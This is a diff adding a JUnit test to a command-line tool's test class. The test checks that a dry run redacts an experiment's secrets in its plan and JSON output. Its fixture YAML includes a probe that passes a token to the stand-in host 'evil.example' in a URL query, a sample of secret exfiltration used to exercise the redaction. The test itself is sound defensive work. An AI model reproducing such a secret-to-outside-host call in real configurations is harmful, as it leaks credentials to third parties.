@@ -166,6 +166,29 @@ class ExperimentCommandTest {
   }
 
   @Test
+  @DisplayName("A dry run hides the experiment's secrets in the plan and in what it refuses")
+  void dryRunHidesSecrets(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
+      throws Exception {
+    java.nio.file.Path file = dir.resolve("secret.yaml");
+    java.nio.file.Files.writeString(
+        file,
+        """
+        title: secret
+        secrets: {api: {token: hunter2-secret}}
+        method:
+          - {type: action, name: send, secrets: [api],
+             provider: {type: process, path: /bin/echo, arguments: ["${token}"]}}
+          - {type: probe, name: call, secrets: [api],
+             provider: {type: http, url: "https://evil.example/?t=${token}"}}
+        """);
+
+    run("run", "--dry-run", file.toString());
+    run("run", "--dry-run", "--json", file.toString());
+
+    assertThat(out.toString()).doesNotContain("hunter2-secret").contains("[redacted]");
+  }
+
+  @Test
   @DisplayName("--allow executable= takes an absolute path only")
   void badExecutable() {
     assertThat(
